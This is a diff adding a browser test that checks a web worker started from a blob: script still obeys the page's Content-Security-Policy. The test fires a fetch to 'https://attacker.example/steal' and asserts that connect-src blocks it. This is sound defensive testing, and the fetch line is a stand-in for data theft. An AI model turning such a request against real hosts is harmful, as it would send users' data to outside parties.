@@ -82,3 +82,25 @@ test("the page is shown before the checker is fetched", async (t) => {
   });
   await t.test("no console errors", () => assert.deepEqual(problems, []));
 });
+
+test("the checker keeps the page's Content-Security-Policy", async (t) => {
+  const { page } = await openPage(t, site);
+  const started = page.waitForEvent("worker");
+  await page.goto(site.base);
+  const worker = await started;
+  await page.locator('main[data-checker="ready"]').waitFor();
+  await t.test("it is started from a blob: script", () => assert.match(worker.url(), /^blob:/));
+  // Inside the real checker: a host the policy does not list is refused by
+  // the policy itself, before any network (where the harness refuses too).
+  const outcome = await worker.evaluate(
+    () =>
+      new Promise((resolve) => {
+        self.addEventListener("securitypolicyviolation", (e) => resolve(`blocked by ${e.effectiveDirective}`), { once: true });
+        fetch("https://attacker.example/steal").then(
+          () => resolve("fetched"),
+          () => setTimeout(() => resolve("failed without a violation"), 500),
+        );
+      }),
+  );
+  await t.test("a host off the list is refused by connect-src", () => assert.equal(outcome, "blocked by connect-src"));
+});
